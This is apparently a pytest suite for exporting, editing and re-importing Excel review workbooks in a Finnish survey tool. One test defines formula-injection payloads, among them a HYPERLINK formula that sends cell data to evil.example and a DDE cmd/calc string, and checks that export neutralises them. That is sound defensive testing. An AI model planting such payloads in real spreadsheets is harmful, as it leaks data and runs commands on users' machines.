"""The reviewers' round trip on SQLite and PostgreSQL: export, edit like a reviewer, import."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from factories import add_version, make_practice
from sqlmodel import select

from yhteistuumin_survey.db.models import (
    Practice,
    PracticeMunicipality,
    PracticeVersion,
    ReviewDecision,
)
from yhteistuumin_survey.errors import InputError
from yhteistuumin_survey.review import effective_municipalities, export_review, import_review
from yhteistuumin_survey.review.common import set_reviewer_municipalities, submitted_municipalities

SHEET = "Arviointi"


# --- a reviewer at work, with openpyxl ----------------------------------------------------


def headers(sheet: Any) -> dict[str, int]:
    return {str(c.value): c.column for c in sheet[1] if c.value is not None}


def row_of(sheet: Any, practice_id: int) -> int:
    id_col = headers(sheet)["ID"]
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=id_col).value == practice_id:
            return row
    raise AssertionError(f"#{practice_id} not in the sheet")


def fill(path: Path, edits: dict[int, dict[str, Any]], out: Path | None = None) -> Path:
    """Write values into a workbook by practice id and header, as a reviewer would."""
    book = openpyxl.load_workbook(path)
    sheet = book[SHEET]
    cols = headers(sheet)
    for practice_id, values in edits.items():
        row = row_of(sheet, practice_id)
        for header, value in values.items():
            sheet.cell(row=row, column=cols[header]).value = value
    target = out or path
    book.save(target)
    return target


def rearrange(path: Path, *, seed: int = 7) -> None:
    """Move columns around, sort rows by title, add a column, hide one, drop the drop-downs."""
    book = openpyxl.load_workbook(path)
    sheet = book[SHEET]
    grid = [[c.value for c in row] for row in sheet.iter_rows()]
    header, body = grid[0], grid[1:]
    order = list(range(len(header)))
    random.Random(seed).shuffle(order)
    title_index = header.index("Käytännön nimi")
    body.sort(key=lambda r: str(r[title_index] or ""), reverse=True)
    sheet.delete_rows(1, sheet.max_row)
    new_header = ["Omat muistiinpanot"] + [header[i] for i in order]
    for c, value in enumerate(new_header, start=1):
        sheet.cell(row=1, column=c).value = value
    for r, values in enumerate(body, start=2):
        sheet.cell(row=r, column=1).value = "muistiinpano"
        for c, i in enumerate(order, start=2):
            sheet.cell(row=r, column=c).value = values[i]
    sheet.data_validations.dataValidation = []
    sheet.column_dimensions["C"].hidden = True
    book.save(path)


def statuses(session: Any) -> dict[int, str]:
    session.expire_all()
    return {p.id: p.status for p in session.exec(select(Practice)).all()}


def export_one(session: Any, tmp_path: Path, **kwargs: Any) -> Path:
    result = export_review(tmp_path / "outputs", session=session, **kwargs)
    assert len(result.files) == 1
    return result.files[0].path


# --- export --------------------------------------------------------------------------------


def test_export_writes_a_row_per_practice_to_decide_with_read_only_and_editable_columns(
        session, tmp_path: Path) -> None:
    first = make_practice(session, title="Lukupiiri", municipalities=["049", "091"],
                          flags=["required-missing:goal", "possible-duplicate:7", "no-consent",
                                 "municipality-ambiguous"], goal=None)
    make_practice(session, title="Jo hyväksytty", status="approved", decided_version=1)
    make_practice(session, title="Kesken", status="needs-info", decided_version=1)
    renewed = make_practice(session, title="Päivitetty", status="approved", decided_version=1,
                            version=2)
    path = export_one(session, tmp_path)
    assert path.parent == tmp_path / "outputs" / "review" and path.name.startswith("review-")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[0] == SHEET
    sheet = book[SHEET]
    cols = headers(sheet)
    ids = sorted(sheet.cell(row=r, column=cols["ID"]).value for r in range(2, sheet.max_row + 1))
    assert ids == sorted([first.id, first.id + 2, renewed.id])
    row = row_of(sheet, first.id)
    assert sheet.cell(row=row, column=cols["Kunnat"]).value == "Espoo, Helsinki"
    assert sheet.cell(row=row, column=cols["Maakunta"]).value == "Uusimaa"
    flags = sheet.cell(row=row, column=cols["Huomiot"]).value
    assert flags.splitlines() == [
        "Tavoite: pakollinen vastaus puuttuu.",
        "Käytäntö voi olla sama kuin käytäntö #7. Tarkista, onko se kaksoiskappale.",
        "Lupa julkaista yhteystiedot: yhteystietoja ei saa julkaista, joten ne jäävät pois "
        "sivustolta.",
        "Kunnat: vastaus sopii useampaan kuntaan. Tarkista, mikä kunta on oikea."]
    assert "[kyselylomake]" in sheet.cell(row=row, column=cols["Lähde"]).value
    assert sheet.cell(row=row, column=cols["Versio"]).value.startswith("v1-")
    renewed_row = row_of(sheet, renewed.id)
    assert "Käytännöstä on tullut uusi versio päätöksen jälkeen." in sheet.cell(row=renewed_row,
                                                         column=cols["Huomiot"]).value
    assert sheet.cell(row=renewed_row, column=cols["Versio"]).value.startswith("v2-")
    # The current state in the reviewers' words, as the decision column writes it.
    assert sheet.cell(row=row, column=cols["Nykyinen tila"]).value == "uusi"
    assert sheet.cell(row=renewed_row, column=cols["Nykyinen tila"]).value == "hyväksytty"
    assert sheet.cell(row=row_of(sheet, first.id + 2),
                      column=cols["Nykyinen tila"]).value == "lisätietoja"
    # Read-only columns grey and locked; editable ones white and unlocked.
    title = sheet.cell(row=row, column=cols["Käytännön nimi"])
    decision = sheet.cell(row=row, column=cols["Päätös"])
    assert title.protection.locked and title.fill.fgColor.rgb.endswith("E7E6E6")
    assert not decision.protection.locked and decision.fill.fill_type is None
    assert title.alignment.wrap_text
    assert sheet.column_dimensions["B"].width >= 30


def test_export_sheet_is_frozen_filtered_protected_with_a_finnish_drop_down(
        session, tmp_path: Path) -> None:
    make_practice(session, title="Lukupiiri")
    book = openpyxl.load_workbook(export_one(session, tmp_path, reviewers=["Aino"]))
    sheet = book[SHEET]
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref.startswith("A1:")
    assert sheet.protection.sheet and not sheet.protection.autoFilter
    lists = [dv for dv in sheet.data_validations.dataValidation if dv.type == "list"]
    assert lists and lists[0].formula1 == '"hyväksytty,hylätty,lisätietoja,kaksoiskappale"'
    decision_letter = openpyxl.utils.get_column_letter(headers(sheet)["Päätös"])
    assert str(lists[0].sqref).startswith(f"{decision_letter}2:")
    instructions = book["Ohjeet - Anvisningar"]
    text = "\n".join(str(c.value) for c in instructions["A"] if c.value)
    assert "Ohjeet arvioijalle" in text and "Anvisningar för granskaren" in text
    meta = book["_review_meta"]
    assert meta.sheet_state == "hidden"
    values = {r[0]: r[1] for r in meta.iter_rows(max_row=5, values_only=True)}
    assert values["reviewer"] == "Aino" and len(values["export_id"]) == 12


def test_export_leaves_room_for_own_columns_and_tells_how_to_sort_a_protected_sheet(
        session, tmp_path: Path) -> None:
    make_practice(session, title="Lukupiiri")
    book = openpyxl.load_workbook(export_one(session, tmp_path))
    sheet = book[SHEET]
    after = len(headers(sheet)) + 1
    # Excel and LibreOffice refuse typing into locked cells of a protected sheet, and every
    # cell is locked unless its cell or column style says otherwise.
    dimension = sheet.column_dimensions[openpyxl.utils.get_column_letter(after)]
    assert dimension.min == after and dimension.max >= after + 9
    assert dimension.protection.locked is False
    text = "\n".join(str(c.value) for c in book["Ohjeet - Anvisningar"]["A"] if c.value)
    # Sorting rows or moving columns moves locked cells, which protection forbids.
    assert "Poista taulukon suojaus" in text and "Ta bort skydd för blad" in text
    assert "lajitella, piilottaa ja siirtää" not in text


def test_export_status_filter_and_unknown_status(session, tmp_path: Path) -> None:
    make_practice(session, title="Uusi")
    approved = make_practice(session, title="Hyväksytty", status="approved", decided_version=1)
    path = export_one(session, tmp_path, statuses=["approved"])
    sheet = openpyxl.load_workbook(path)[SHEET]
    assert [sheet.cell(row=2, column=1).value, sheet.max_row] == [approved.id, 2]
    with pytest.raises(InputError, match="unknown status 'hyväksytty'; use one or more of new"):
        export_review(tmp_path, session=session, statuses=["hyväksytty"])
    assert export_review(tmp_path, session=session, statuses=["duplicate"]).files == []


# --- the round trip ------------------------------------------------------------------------


def test_round_trip_survives_moved_sorted_hidden_and_added_columns_without_drop_downs(
        session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri", municipalities=["049"])
    b = make_practice(session, title="Kirjastoauto", municipalities=["853"])
    c = make_practice(session, title="Lukupiiri Espoo", municipalities=["049"])
    d = make_practice(session, title="Teatteri", municipalities=["091"])
    e = make_practice(session, title="Odottaa", municipalities=["091"])
    path = export_one(session, tmp_path)
    fill(path, {
        a.id: {"Päätös": "hyväksytty", "Korjattu nimi": "Lukupiiri kaikille",
               "Korjatut avainsanat": "lukeminen; yhteisöllisyys", "Arvioijan kommentti": "Hyvä",
               "Korjatut kunnat": "Espoo, Kauniainen"},
        b.id: {"Päätös": "rejected"},
        c.id: {"Päätös": "kaksoiskappale", "Kaksoiskappale (alkuperäisen ID)": a.id},
        d.id: {"Päätös": "mer information", "Arvioijan kommentti": "Lisää resursseista"},
    })
    rearrange(path)
    result = import_review([path], session=session, reviewer="Aino")
    # (The warnings: the reviewer's own notes column is named as not imported, and the
    # corrected keyword the vocabulary does not know is named.)
    assert result.counts == {"applied": 4, "unchanged": 0, "stale": 0, "conflicts": 0,
                              "errors": 0, "warnings": 2, "skipped": 1}
    assert [o.reason.partition(":")[0] for o in result.report.outcomes
            if o.status == "warning"][0] == "corrected keyword 'yhteisöllisyys' is not in " \
        "the keyword vocabulary"
    assert statuses(session) == {a.id: "approved", b.id: "rejected", c.id: "duplicate",
                                 d.id: "needs-info", e.id: "new"}
    practice_a = session.get(Practice, a.id)
    assert practice_a.corrected_title == "Lukupiiri kaikille"
    assert practice_a.corrected_keywords == ["lukeminen", "yhteisöllisyys"]
    assert practice_a.reviewer_comment == "Hyvä" and practice_a.decided_version == 1
    version = session.exec(select(PracticeVersion).where(
        PracticeVersion.practice_id == a.id)).one()
    assert version.title == "Lukupiiri"  # the submitted text is never overwritten
    assert effective_municipalities(session=session, practice_ids=[a.id]) == {
        a.id: ["049", "235"]}
    rows = {(r.municipality_code, r.source, r.superseded, r.submitted_source)
            for r in session.exec(select(PracticeMunicipality).where(
                PracticeMunicipality.practice_id == a.id))}
    assert rows == {("049", "reviewer", False, "token"), ("235", "reviewer", False, None)}
    assert submitted_municipalities(session=session, practice_id=a.id) == [("049", "token")]
    assert session.get(Practice, c.id).duplicate_of_id == a.id
    audit = session.exec(select(ReviewDecision).order_by(ReviewDecision.practice_id)).all()
    assert [(r.practice_id, r.decision, r.previous_status, r.reviewer) for r in audit] == [
        (a.id, "approved", "new", "Aino"), (b.id, "rejected", "new", "Aino"),
        (c.id, "duplicate", "new", "Aino"), (d.id, "needs-info", "new", "Aino")]
    assert audit[2].duplicate_of_id == a.id
    assert audit[0].corrected_municipalities == ["049", "235"]
    assert all(r.source_sha256 and r.source_row and r.source_file == str(path) for r in audit)
    # The duplicate and the decided ones leave the queue; needs-info stays for follow-up.
    again = export_review(tmp_path / "outputs", session=session)
    sheet = openpyxl.load_workbook(again.files[0].path)[SHEET]
    ids = {sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)}
    assert ids == {d.id, e.id}
    row = row_of(sheet, d.id)
    cols = headers(sheet)
    assert sheet.cell(row=row, column=cols["Päätös"]).value == "lisätietoja"
    assert sheet.cell(row=row, column=cols["Arvioijan kommentti"]).value == "Lisää resursseista"


def test_importing_the_same_file_twice_changes_nothing(session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "hyväksytty", "Korjatut kunnat": "Vantaa"}})
    assert import_review([path], session=session).counts["applied"] == 1
    before = session.get(Practice, a.id).updated_at
    second = import_review([path, path], session=session)
    assert second.counts["applied"] == 0 and second.counts["unchanged"] == 2
    assert sorted(o.reason for o in second.report.outcomes) == [
        "already imported from this file", f"the same file as {path}"]
    assert len(session.exec(select(ReviewDecision)).all()) == 1
    session.expire_all()
    assert session.get(Practice, a.id).updated_at == before
    # A re-export of the decided practice, re-imported with the same content, is unchanged too.
    fresh = export_one(session, tmp_path, statuses=["approved"])
    assert import_review([fresh], session=session).counts["unchanged"] == 1
    assert len(session.exec(select(ReviewDecision)).all()) == 1


def test_a_row_for_an_older_version_is_stale_and_asks_for_a_re_export(session,
                                                                        tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    b = make_practice(session, title="Kirjastoauto")
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "hyväksytty"}, b.id: {"Päätös": "hyväksytty"}})
    add_version(session, a, title="Lukupiiri (korjattu)")
    result = import_review([path], session=session)
    assert result.counts["stale"] == 1 and result.counts["applied"] == 1 and result.failed
    stale = next(o for o in result.report.outcomes if o.status == "stale")
    row = row_of(openpyxl.load_workbook(path)[SHEET], a.id)
    assert stale.source == f"{path}:{row}"
    assert stale.reason == (f"#{a.id} has a newer version (v2) than this row (v1); re-export "
                            "and decide again")
    assert statuses(session)[a.id] == "new"


def test_a_row_whose_visible_stamp_was_edited_is_refused_never_applied(
        session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    path = export_one(session, tmp_path)
    add_version(session, a, title="Uusi")
    sheet = openpyxl.load_workbook(export_one(session, tmp_path / "b"))[SHEET]
    new_stamp = sheet.cell(row=2, column=headers(sheet)["Versio"]).value
    fill(path, {a.id: {"Päätös": "hyväksytty", "Versio": new_stamp}})
    result = import_review([path], session=session)
    assert [o.status for o in result.report.outcomes] == ["error"]
    assert f"the 'Versio' cell {new_stamp!r} is not the one exported for #{a.id}" in \
        result.report.outcomes[0].reason
    assert result.report.outcomes[0].source.endswith(":2")


def test_two_files_deciding_a_practice_differently_are_both_held_back(session,
                                                                      tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    b = make_practice(session, title="Kirjastoauto")
    path = export_one(session, tmp_path)
    first = fill(path, {a.id: {"Päätös": "hyväksytty"}, b.id: {"Päätös": "hylätty"}},
                 out=tmp_path / "aino.xlsx")
    second = fill(path, {a.id: {"Päätös": "hylätty"},
                         b.id: {"Päätös": "rejected", "Arvioijan kommentti": "Ei kulttuuria"}},
                  out=tmp_path / "bertil.xlsx")
    fill(first, {b.id: {"Arvioijan kommentti": "Mainos"}})
    result = import_review([first, second], session=session)
    assert result.counts == {"applied": 1, "unchanged": 1, "stale": 0, "conflicts": 2,
                              "errors": 0, "warnings": 0, "skipped": 0}
    conflicts = [o for o in result.report.outcomes if o.status == "conflict"]
    assert {o.source.split(":")[0] for o in conflicts} == {str(first), str(second)}
    assert "hyväksytty in" in conflicts[0].reason and "hylätty in" in conflicts[0].reason
    assert statuses(session) == {a.id: "new", b.id: "rejected"}
    assert len(session.exec(select(ReviewDecision)).all()) == 1
    assert session.get(Practice, b.id).reviewer_comment == "Mainos\nEi kulttuuria"


def test_a_later_file_of_another_reviewer_disagreeing_with_an_earlier_import_is_held_back(
        session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    path = export_one(session, tmp_path)
    aino = fill(path, {a.id: {"Päätös": "hyväksytty"}}, out=tmp_path / "aino.xlsx")
    bertil = fill(path, {a.id: {"Päätös": "hylätty"}}, out=tmp_path / "bertil.xlsx")
    assert import_review([aino], session=session, reviewer="Aino").counts["applied"] == 1
    result = import_review([bertil], session=session, reviewer="Bertil")
    assert result.counts["conflicts"] == 1
    assert "was decided 'hyväksytty' by Aino (aino.xlsx:2)" in result.report.outcomes[0].reason
    assert statuses(session)[a.id] == "approved"
    # The same reviewer changing their mind is applied.
    changed = import_review([bertil], session=session, reviewer="Aino")
    assert changed.counts["applied"] == 1 and statuses(session)[a.id] == "rejected"


def test_an_unnamed_workbook_disagreeing_with_a_reviewers_earlier_decision_is_held_back(
        session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    path = export_one(session, tmp_path)
    aino = fill(path, {a.id: {"Päätös": "hyväksytty"}}, out=tmp_path / "aino.xlsx")
    copy = fill(path, {a.id: {"Päätös": "hylätty"}}, out=tmp_path / "kopio.xlsx")
    assert import_review([aino], session=session, reviewer="Aino").counts["applied"] == 1
    result = import_review([copy], session=session)
    assert result.counts["conflicts"] == 1 and result.failed
    assert "was decided 'hyväksytty' by Aino (aino.xlsx:2)" in result.report.outcomes[0].reason
    assert statuses(session)[a.id] == "approved"
    # An unnamed workbook changed and imported again under its own name is its own decision.
    b = make_practice(session, title="Kirjastoauto")
    mine = fill(export_one(session, tmp_path), {b.id: {"Päätös": "hyväksytty"}},
                out=tmp_path / "oma.xlsx")
    assert import_review([mine], session=session).counts["applied"] == 1
    fill(mine, {b.id: {"Päätös": "hylätty"}})
    assert import_review([mine], session=session).counts["applied"] == 1
    assert statuses(session)[b.id] == "rejected"


def test_changing_a_decision_the_workbook_showed_is_not_a_conflict(session,
                                                                  tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    aino = fill(export_one(session, tmp_path), {a.id: {"Päätös": "lisätietoja"}},
                out=tmp_path / "aino.xlsx")
    assert import_review([aino], session=session, reviewer="Aino").counts["applied"] == 1
    # needs-info is exported again with the decision filled in; Bertil sees it and approves.
    later = export_one(session, tmp_path)
    sheet = openpyxl.load_workbook(later)[SHEET]
    assert sheet.cell(row=row_of(sheet, a.id), column=headers(sheet)["Päätös"]).value \
        == "lisätietoja"
    bertil = fill(later, {a.id: {"Päätös": "hyväksytty"}}, out=tmp_path / "bertil.xlsx")
    result = import_review([bertil], session=session, reviewer="Bertil")
    assert result.counts["applied"] == 1 and result.counts["conflicts"] == 0
    assert statuses(session)[a.id] == "approved"


def test_invalid_rows_are_reported_by_file_and_row_and_valid_ones_applied(
        session, tmp_path: Path) -> None:
    ok = make_practice(session, title="Kelpaa")
    typo = make_practice(session, title="Kirjoitusvirhe")
    other = make_practice(session, title="Toinen kieli")
    nowhere = make_practice(session, title="Ei alkuperäistä")
    itself = make_practice(session, title="Itsensä")
    place = make_practice(session, title="Kunta väärin")
    vague = make_practice(session, title="Kunta epäselvä")
    edited = make_practice(session, title="Muokattu")
    path = export_one(session, tmp_path)
    fill(path, {
        ok.id: {"Päätös": "hyväksytty"},
        typo.id: {"Päätös": "hyväksyty"},
        other.id: {"Päätös": "genehmigt"},
        nowhere.id: {"Päätös": "kaksoiskappale", "Kaksoiskappale (alkuperäisen ID)": 99999},
        itself.id: {"Päätös": "duplicate", "Kaksoiskappale (alkuperäisen ID)": itself.id},
        place.id: {"Päätös": "hyväksytty", "Korjatut kunnat": "Atlantis"},
        vague.id: {"Päätös": "hyväksytty", "Korjatut kunnat": "Vaasa, Xyzzyville"},
        edited.id: {"Päätös": "hyväksytty", "Käytännön nimi": "Muokattu otsikko"},
    })
    result = import_review([path], session=session)
    sheet = openpyxl.load_workbook(path)[SHEET]
    by_id = {o.detail.get("practice_id"): o for o in result.report.outcomes
             if o.status in {"error", "warning"}}

    def where(practice: Practice) -> str:
        return f"{path}:{row_of(sheet, practice.id)}"

    allowed = ("hyväksytty / godkänd / approved, hylätty / avslagen / rejected, lisätietoja / "
               "mer information / needs-info, kaksoiskappale / dubblett / duplicate")
    assert by_id[typo.id].source == where(typo)
    assert by_id[typo.id].reason == f"unknown decision 'hyväksyty'; use one of: {allowed}"
    assert by_id[other.id].reason.startswith("unknown decision 'genehmigt'; use one of")
    assert by_id[nowhere.id].reason == "duplicate of #99999: there is no such practice"
    assert by_id[itself.id].reason == f"#{itself.id} cannot be a duplicate of itself"
    assert by_id[place.id].reason.startswith("corrected municipalities 'Atlantis': no "
                                             "municipality recognised")
    assert "not recognised" in by_id[vague.id].reason
    assert by_id[edited.id].status == "warning"
    assert by_id[edited.id].reason == ("read-only column 'Käytännön nimi' was edited; the edit "
                                       "is ignored (put corrections in 'Korjattu nimi')")
    assert result.counts["errors"] == 6 and result.counts["applied"] == 2 and result.failed
    assert statuses(session)[edited.id] == "approved"
    session.expire_all()
    assert session.get(Practice, edited.id).corrected_title is None


def test_decisions_in_swedish_and_english_and_duplicate_chains(session, tmp_path: Path) -> None:
    original = make_practice(session, title="Alkuperäinen")
    first_copy = make_practice(session, title="Kopio 1", status="duplicate",
                               duplicate_of_id=original.id, decided_version=1)
    second_copy = make_practice(session, title="Kopio 2")
    swedish = make_practice(session, title="Svenska", municipalities=["599"])
    path = export_one(session, tmp_path)
    fill(path, {second_copy.id: {"Kaksoiskappale (alkuperäisen ID)": f"#{first_copy.id}"},
                swedish.id: {"Päätös": "Avslagen"}, original.id: {"Päätös": "APPROVED"}})
    result = import_review([path], session=session)
    reasons = [o.reason for o in result.report.outcomes if o.status == "warning"]
    assert reasons == [f"duplicate of #{first_copy.id} given without a decision; taken as "
                       "kaksoiskappale",
                       f"#{first_copy.id} is itself a duplicate of #{original.id}; linked to "
                       f"#{original.id}"]
    assert result.counts["applied"] == 3
    session.expire_all()
    assert session.get(Practice, second_copy.id).duplicate_of_id == original.id
    assert statuses(session)[swedish.id] == "rejected"


def test_without_the_hidden_sheet_the_version_column_is_used(session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "hyväksytty"}})
    book = openpyxl.load_workbook(path)
    del book["_review_meta"]
    book.save(path)
    result = import_review([path], session=session)
    assert [o.status for o in result.report.outcomes] == ["warning", "applied"]
    assert result.report.outcomes[0].reason.startswith("no _review_meta sheet")


def test_an_edited_id_is_caught_by_the_version_stamp(session, tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri")
    b = make_practice(session, title="Kirjastoauto")
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "hylätty", "ID": b.id}})
    result = import_review([path], session=session)
    assert result.report.outcomes[0].status == "error"
    assert result.report.outcomes[0].reason == (f"the ID was changed (the row is for #{a.id}, "
                                                f"not #{b.id}); fix the ID or re-export")
    assert statuses(session) == {a.id: "new", b.id: "new"}


def test_a_file_that_is_not_a_review_workbook_is_one_error(session, tmp_path: Path) -> None:
    make_practice(session, title="Lukupiiri")
    other = tmp_path / "muu.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Nimi", "Arvo"])
    book.save(other)
    result = import_review([other, tmp_path / "missing.xlsx"], session=session)
    assert [o.status for o in result.report.outcomes] == ["error", "error"]
    assert result.report.outcomes[0].reason.startswith("no review sheet")
    assert result.report.outcomes[1].reason == ("no such file; check the path (a typo, or moved "
                                                "or renamed?)")


PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")', "+cmd|' /C calc'!A0",
            "-1+1", "@SUM(A1)", "\tx", "\r=1+1"]


def test_formula_payloads_stay_text_in_the_workbook_and_after_the_round_trip(
        session, tmp_path: Path) -> None:
    from yhteistuumin_survey.reports import neutralise_formula

    practices = [make_practice(session, title=payload, summary=payload, keywords=[payload],
                               corrected_title=payload) for payload in PAYLOADS]
    path = export_one(session, tmp_path)

    def check(book_path: Path, corrected: list[str] = PAYLOADS) -> None:
        sheet = openpyxl.load_workbook(book_path)[SHEET]
        cols = headers(sheet)
        for practice, payload, fixed in zip(practices, PAYLOADS, corrected, strict=True):
            row = row_of(sheet, practice.id)
            for header in ("Käytännön nimi", "Hyvä käytäntö pähkinänkuoressa", "Avainsanat",
                           "Korjattu nimi"):
                cell = sheet.cell(row=row, column=cols[header])
                expected = fixed if header == "Korjattu nimi" else payload
                assert cell.data_type == "s", (header, payload)
                assert cell.value.replace("\r", "\n") == neutralise_formula(expected).replace(
                    "\r", "\n"), (header, payload)

    check(path)
    fill(path, {p.id: {"Päätös": "hyväksytty"} for p in practices})
    check(path)  # saved again by openpyxl: still text
    result = import_review([path], session=session)
    assert result.counts["applied"] == len(PAYLOADS) and result.counts["warnings"] == 0
    session.expire_all()
    for practice, payload in zip(practices, PAYLOADS, strict=True):
        # The pre-filled correction comes back as the reviewer's text, without our guard.
        assert session.get(Practice, practice.id).corrected_title == payload.strip()
    check(export_one(session, tmp_path / "again", statuses=["approved"]),
          [p.strip() for p in PAYLOADS])


def test_clearing_corrected_municipalities_restores_the_submitted_ones(session,
                                                                        tmp_path: Path) -> None:
    a = make_practice(session, title="Lukupiiri", municipalities=["049", "091"])
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "lisätietoja", "Korjatut kunnat": "Vantaa"}})
    assert import_review([path], session=session, reviewer="Aino").counts["applied"] == 1
    assert effective_municipalities(session=session, practice_ids=[a.id]) == {a.id: ["092"]}
    assert submitted_municipalities(session=session, practice_id=a.id) == [
        ("049", "token"), ("091", "token")]
    again = export_one(session, tmp_path / "again")
    sheet = openpyxl.load_workbook(again)[SHEET]
    assert sheet.cell(row=row_of(sheet, a.id), column=headers(sheet)["Korjatut kunnat"]
                      ).value == "Vantaa"
    assert sheet.cell(row=row_of(sheet, a.id), column=headers(sheet)["Kunnat"]).value == "Vantaa"
    fill(again, {a.id: {"Päätös": "hyväksytty", "Korjatut kunnat": None}})
    assert import_review([again], session=session, reviewer="Aino").counts["applied"] == 1
    assert effective_municipalities(session=session, practice_ids=[a.id]) == {
        a.id: ["049", "091"]}
    rows = session.exec(select(PracticeMunicipality).where(
        PracticeMunicipality.practice_id == a.id)).all()
    assert {(r.municipality_code, r.source, r.superseded, r.submitted_source) for r in rows} == {
        ("049", "token", False, None), ("091", "token", False, None)}
    audit = session.exec(select(ReviewDecision).order_by(ReviewDecision.id)).all()
    assert [(r.decision, r.previous_status, r.corrected_municipalities) for r in audit] == [
        ("needs-info", "new", ["092"]), ("approved", "needs-info", None)]


def test_a_near_spelling_of_a_corrected_municipality_is_refused_not_guessed(
        session, tmp_path: Path) -> None:
    # "Kuopo" was read as Kuopio and the card moved from Äänekoski to Kuopio without a word.
    a = make_practice(session, title="Kulttuurikortti", municipalities=["992"])
    b = make_practice(session, title="Lukupiiri", municipalities=["049"])
    c = make_practice(session, title="Kirjastoauto", municipalities=["049"])
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "hyväksytty", "Korjatut kunnat": "Kuopo"},
                b.id: {"Päätös": "hyväksytty", "Korjatut kunnat": "Vantaa ja Jyväskylö"},
                c.id: {"Päätös": "hyväksytty", "Korjatut kunnat": "Kuopio, Kuopo"}})

    result = import_review([path], session=session, reviewer="Aino")

    reasons = {o.detail["practice_id"]: (o.status, o.reason) for o in result.report.outcomes}
    assert reasons[a.id][0] == "error" and "'Kuopo' is not a name in the register (did you " \
        "mean Kuopio?)" in reasons[a.id][1] and reasons[a.id][1].endswith("nothing applied")
    assert reasons[b.id][0] == "error" and "'Jyväskylö'" in reasons[b.id][1]
    assert reasons[c.id][0] == "applied"  # the name beside it, as written, says which
    assert effective_municipalities(session=session, practice_ids=[a.id, b.id, c.id]) == {
        a.id: ["992"], b.id: ["049"], c.id: ["297"]}
    assert statuses(session) == {a.id: "new", b.id: "new", c.id: "approved"}


def test_a_title_naming_a_contact_without_consent_is_flagged_for_a_new_title(
        session, tmp_path: Path) -> None:
    # The publish hides the name in the title ("[...] taidetestaajat" on the card); the
    # reviewers were never told, so none gave the card a proper title.
    named = make_practice(session, title="Kalle Koulun taidetestaajat", contact_name="Kalle Koulu",
                          contact_email="kalle.koulu@hel.example.fi", publish_consent=False)
    agreed = make_practice(session, title="Liisa Lindroosin lukupiiri",
                           contact_name="Liisa Lindroos", publish_consent=True)
    other = make_practice(session, title="Taidetestaajat", contact_name="Kalle Koulu",
                          publish_consent=None)
    path = export_one(session, tmp_path)

    sheet = openpyxl.load_workbook(path)[SHEET]
    notes = {p.id: sheet.cell(row=row_of(sheet, p.id), column=headers(sheet)["Huomiot"]).value
             or "" for p in (named, agreed, other)}
    assert ("Käytännön nimi: nimessä mainitaan yhteyshenkilö, joka ei ole antanut lupaa "
            "julkaista tietojaan, joten nimi piilotetaan julkaistusta otsikosta. Kirjoita "
            "käytännölle uusi nimi sarakkeeseen Korjattu nimi.") in notes[named.id].splitlines()
    assert "nimessä mainitaan yhteyshenkilö" not in notes[agreed.id] + notes[other.id]

    fill(path, {named.id: {"Päätös": "hyväksytty", "Korjattu nimi": "Taidetestaajat kouluille"}})
    assert import_review([path], session=session).counts["applied"] == 1
    again = openpyxl.load_workbook(export_one(session, tmp_path / "again",
                                              statuses=["approved"]))[SHEET]
    assert "nimessä mainitaan" not in (again.cell(row=row_of(again, named.id), column=headers(
        again)["Huomiot"]).value or "")  # the corrected title names nobody


def test_corrected_keywords_split_as_typed_keywords_do(session, tmp_path: Path) -> None:
    # "nuoret / kirjasto" became one keyword: the review split only at commas and semicolons.
    a = make_practice(session, title="Lukupiiri", keywords=["lukeminen"])
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Päätös": "hyväksytty",
                       "Korjatut avainsanat": "musiikki; nuoret / kirjasto,"}})

    assert import_review([path], session=session).counts["applied"] == 1

    session.expire_all()
    assert session.get(Practice, a.id).corrected_keywords == ["musiikki", "nuoret", "kirjasto"]


def test_a_correction_without_a_decision_is_a_warning_and_blank_rows_are_skipped(
        session, tmp_path: Path) -> None:
    """(A comment without a decision is stored: test_review_audit5.)"""
    a = make_practice(session, title="Lukupiiri")
    b = make_practice(session, title="Kirjastoauto")
    path = export_one(session, tmp_path)
    fill(path, {a.id: {"Korjattu nimi": "Lukupiirit"}})
    result = import_review([path], session=session)
    assert [(o.status, o.detail["practice_id"]) for o in result.report.outcomes] == [
        ("warning", a.id), ("skipped", b.id)]
    assert result.report.outcomes[0].reason == ("a comment or correction without a decision; "
                                                "nothing applied (choose a decision)")
    assert not result.failed and statuses(session) == {a.id: "new", b.id: "new"}


@pytest.mark.parametrize("corrected", [["049", "235"], ["091"], ["092"], ["049", "091"], None])
def test_corrected_municipalities_read_the_same_by_either_rule(session, corrected) -> None:
    """Rows not superseded == reviewer rows when there are any (the rule the site uses)."""
    from yhteistuumin_survey.cards import effective_municipalities as card_rule

    a = make_practice(session, title="Lukupiiri", municipalities=["049", "091"])
    set_reviewer_municipalities(session=session, practice_id=a.id, codes=["235"])
    set_reviewer_municipalities(session=session, practice_id=a.id, codes=corrected)
    session.commit()
    rows = session.exec(select(PracticeMunicipality).where(
        PracticeMunicipality.practice_id == a.id)).all()
    expected = sorted(corrected or ["049", "091"])
    assert effective_municipalities(session=session, practice_ids=[a.id])[a.id] == expected
